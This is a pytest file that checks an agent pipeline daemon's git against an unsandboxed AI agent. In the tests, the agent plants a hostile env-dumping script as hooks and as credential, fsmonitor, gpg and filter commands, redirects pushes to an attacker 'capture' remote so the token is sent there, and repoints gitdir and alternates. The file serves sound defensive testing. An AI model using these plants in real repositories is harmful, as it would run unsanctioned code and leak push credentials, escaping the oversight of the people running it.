"""The agent plants in every git place it can write; the daemon's git obeys none of it.

No sandbox here: the agent is played by the test, writing straight into the
checkout's config and hooks, the worktree's admin dir, the worktree's ``.git``
file, alternates and attributes. The daemon then prepares, commits, publishes,
releases and tidies under those plants, with a sentinel push token.
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from pipeline.config.settings import PushSettings, RepoSettings, SecretRef, WorkspaceSettings
from pipeline.core.errors import FatalError
from pipeline.git.commits import Git
from pipeline.git.run import GitRunner
from pipeline.run.publish import PublishHooks, publish
from pipeline.testing.git_http import GitHttpServer
from pipeline.testing.gitrepos import commit_to_remote
from pipeline.testing.scopes import scope_for
from pipeline.testing.sinks import RecordingSink
from pipeline.workspace.workspaces import PreparedWorkspace, Workspaces

TOKEN = "sentinel-attacker-push-token-41d7"
HOOKS = (
    "pre-push",
    "post-checkout",
    "reference-transaction",
    "pre-commit",
    "commit-msg",
    "post-commit",
    "post-rewrite",
    "pre-rebase",
    "pre-auto-gc",
    "post-merge",
    "prepare-commit-msg",
    "push-to-checkout",
    "post-index-change",
)
EVIL = """#!/bin/sh
env > "{markers}/ran-$$"
case "$1" in *name*|*assword*) echo planted; exit 0 ;; esac
exec cat
"""


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True)
    return done.stdout.strip()


def seeded_bare(root: Path, seed: Path) -> Path:
    root.mkdir()
    bare = root / "demo.git"
    git(root, "clone", "-q", "--bare", str(seed), str(bare))
    return bare


@dataclass
class Scene:
    """The real remote, the attacker's capture remote, the daemon's volume and the markers."""

    tmp: Path
    real: GitHttpServer
    capture: GitHttpServer
    spaces: Workspaces
    repo: RepoSettings
    markers: Path
    sink: RecordingSink

    @property
    def remote(self) -> Path:
        return self.tmp / "srv" / "demo.git"

    def prepare(self, run_id: int) -> PreparedWorkspace:
        return self.spaces.prepare(
            self.repo, run_id=run_id, issue_ref=f"run{run_id}", base_env={}, events=self.sink
        )

    def publish(self, ws: PreparedWorkspace, run_id: int) -> str:
        recorded: list[str] = []
        result = publish(
            scope_for(run_id, self.repo, ws, self.sink),
            PublishHooks(retest=lambda: True, record_pushed=recorded.append),
        )
        assert recorded == [result.pushed_sha]
        return result.pushed_sha

    def fired(self) -> list[str]:
        return sorted(path.name for path in self.markers.glob("ran-*"))


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    """A token-protected remote, an attacker's look-alike remote, markers and a volume."""
    monkeypatch.setenv("AFK_TEST_PUSH_TOKEN", TOKEN)
    seed = tmp_path / "seed"
    seed.mkdir()
    git(seed, "init", "-q", "-b", "main")
    (seed / "README.md").write_text("hello\n", encoding="utf-8")
    git(seed, "add", "-A")
    git(seed, "-c", "user.name=s", "-c", "user.email=s@t.invalid", "commit", "-q", "-m", "seed")
    seeded_bare(tmp_path / "srv", seed)
    seeded_bare(tmp_path / "cap", seed)
    markers = tmp_path / "markers"
    (markers / "hooks").mkdir(parents=True)
    for name in ("evil.sh", *(f"hooks/{hook}" for hook in HOOKS)):
        (markers / name).write_text(EVIL.format(markers=markers), encoding="utf-8")
        (markers / name).chmod(0o755)
    volume = tmp_path / "volume"
    volume.mkdir()
    with (
        GitHttpServer(tmp_path / "srv", TOKEN) as real,
        GitHttpServer(tmp_path / "cap", "attacker-accepts-anything") as capture,
    ):
        repo = RepoSettings(
            name="demo",
            tracker="local",
            slug="o/demo",
            remote_url=real.url("demo.git"),
            push=PushSettings(token=SecretRef(env="AFK_TEST_PUSH_TOKEN")),
        )
        spaces = Workspaces(volume, WorkspaceSettings(fetch_debounce_s=0.0))
        yield Scene(tmp_path, real, capture, spaces, repo, markers, RecordingSink())


def evil_config(scene: Scene) -> dict[str, str]:
    """Config that would run the marker script, redirect the remote or leak the token."""
    evil, real, capture = scene.markers / "evil.sh", scene.real.url(""), scene.capture.url("")
    return {
        "core.fsmonitor": str(evil),
        "core.hooksPath": str(scene.markers / "hooks"),
        "core.sshCommand": str(evil),
        "core.askPass": str(evil),
        "core.pager": str(evil),
        "credential.helper": f"!{evil}",
        f"url.{capture}.insteadOf": real,
        f"url.{capture}.pushInsteadOf": real,
        "remote.origin.url": capture,
        "remote.origin.pushurl": capture,
        "filter.evil.clean": str(evil),
        "filter.evil.smudge": str(evil),
        "diff.evil.textconv": str(evil),
        "diff.external": str(evil),
        "merge.evil.driver": f"{evil} %O %A %B",
        "commit.gpgSign": "true",
        "gpg.program": str(evil),
        "trailer.evil.cmd": str(evil),
        "trailer.evil.ifMissing": "add",
        "uploadpack.packObjectsHook": str(evil),
        "protocol.http.allow": "always",
        "include.path": str(scene.markers / "more.gitconfig"),
        "extensions.worktreeConfig": "true",
        "core.repositoryformatversion": "1",
    }


def write_config(path: Path, entries: dict[str, str]) -> None:
    for key, value in entries.items():
        subprocess.run(["git", "config", "--file", str(path), "--add", key, value], check=True)


def plant(scene: Scene, ws: PreparedWorkspace) -> None:
    """Everything an agent with a shell in the worktree (and no sandbox) can plant."""
    common, admin, tree = ws.git.common_dir, ws.git.git_dir, ws.path
    entries = evil_config(scene)
    write_config(common / "config", entries)
    write_config(admin / "config.worktree", entries)
    included = {k: v for k, v in entries.items() if k != "include.path"}
    write_config(scene.markers / "more.gitconfig", included)
    (common / "hooks").mkdir(exist_ok=True)
    for hook in HOOKS:
        (common / "hooks" / hook).write_bytes((scene.markers / "evil.sh").read_bytes())
        (common / "hooks" / hook).chmod(0o755)
    attacker = scene.tmp / "attacker.git"
    if not attacker.exists():
        git(scene.tmp, "init", "-q", "--bare", str(attacker))
        write_config(attacker / "config", entries)
    (admin / "commondir").write_text(f"{attacker}\n", encoding="utf-8")
    (tree / ".git").write_text(f"gitdir: {attacker}\n", encoding="utf-8")
    (common / "objects" / "info" / "alternates").write_text(f"{attacker / 'objects'}\n")
    (common / "info").mkdir(exist_ok=True)
    (common / "info" / "attributes").write_text("* filter=evil diff=evil merge=evil\n")


def agent_commits(ws: PreparedWorkspace, run_id: int) -> None:
    """The agent's own work, made with plain git before it plants anything."""
    (ws.path / f"feature{run_id}.txt").write_text("feature\n", encoding="utf-8")
    (ws.path / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    git(ws.path, "add", "-A")
    git(
        ws.path,
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@t.invalid",
        "commit",
        "-q",
        "-m",
        f"Feature {run_id}\n\nAfk-Run: {run_id}",
    )


def readable_by_agent(scene: Scene, ws: PreparedWorkspace) -> list[Path]:
    """Files the agent can read (checkout and worktrees) that hold the token."""
    repo_dir = ws.git.common_dir.parent.parent
    roots = [repo_dir / "checkout", repo_dir / "worktrees", scene.markers]
    return [
        path
        for root in roots
        for path in root.rglob("*")
        if path.is_file() and not path.is_symlink() and TOKEN.encode() in path.read_bytes()
    ]


def test_planted_git_settings_redirect_run_and_leak_nothing(scene: Scene) -> None:
    """Under every plant: pushes reach the real remote only, nothing planted runs or leaks."""
    first = scene.prepare(1)
    agent_commits(first, 1)
    theirs = commit_to_remote(str(scene.remote), {"theirs.txt": "x\n"}, "colleague")
    plant(scene, first)
    pushed = scene.publish(first, 1)  # fetch, rebase, adopt and push under the plants
    assert git(scene.remote, "rev-parse", "main") == pushed
    assert git(scene.remote, "rev-parse", f"{pushed}~1") == theirs
    assert scene.fired() == [] and scene.capture.hits == 0
    scene.spaces.release(first, succeeded=True)

    second = scene.prepare(2)  # fetch, feed the checkout, reset the slot under the plants
    assert second.base_sha == pushed and second.path == first.path
    plant(scene, second)
    (second.path / "feature2.txt").write_text("more\n", encoding="utf-8")
    daemon_git = Git(second.git)
    assert daemon_git.stage_changes(set(), ())
    daemon_git.commit(daemon_git.with_trailers("Run two", (("Afk-Run", "2"),)))
    assert scene.publish(second, 2) == git(scene.remote, "rev-parse", "main")
    scene.spaces.release(second, succeeded=True)
    report = scene.spaces.housekeeping(active_paths=[])

    assert report.errors == []
    assert scene.fired() == [] and scene.capture.hits == 0
    assert (second.path / ".git").read_text() == f"gitdir: {second.git.git_dir}\n"
    assert git(scene.remote, "log", "-1", "--format=%B", "main").strip() == "Run two\n\nAfk-Run: 2"
    assert readable_by_agent(scene, second) == []
    assert TOKEN not in repr(scene.sink.events)
    assert set(scene.real.users) == {"x-access-token"}


def test_the_plants_do_fire_for_an_unhardened_git(scene: Scene) -> None:
    """Control: the same plants run the marker script for plain git, so the test above can fail."""
    ws = scene.prepare(1)
    plant(scene, ws)
    checkout = str(ws.git.common_dir.parent)
    for args in (["commit", "-q", "--allow-empty", "-m", "x"], ["fetch", "origin"]):
        subprocess.run(
            ["git", "-C", checkout, *args],
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
            timeout=60,
        )
    assert scene.fired() != []
    assert scene.capture.hits > 0


def test_the_daemons_git_sees_none_of_its_secrets(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A git command in a run's tree runs with an allowlisted environment: no token in it."""
    monkeypatch.setenv("GITHUB_TOKEN", "sentinel-tracker-token")
    ws = scene.prepare(1)
    dump = GitRunner(ws.git).ok("-c", "alias.dump=!env", "dump")
    assert "sentinel-tracker-token" not in dump and TOKEN not in dump
    assert f"GIT_DIR={ws.git.git_dir}" in dump and "GIT_ALLOW_PROTOCOL=file" in dump.split()


def test_network_git_is_refused_outside_the_mirror(scene: Scene) -> None:
    """Credentials are only ever handed to git in the daemon's mirror."""
    ws = scene.prepare(1)
    hits = scene.real.hits
    with pytest.raises(FatalError, match="only the daemon's mirror talks to the remote"):
        GitRunner(ws.git).network(
            "fetch", scene.repo.remote_url, url=scene.repo.remote_url, credentials=scene.repo.push
        )
    assert scene.real.hits == hits
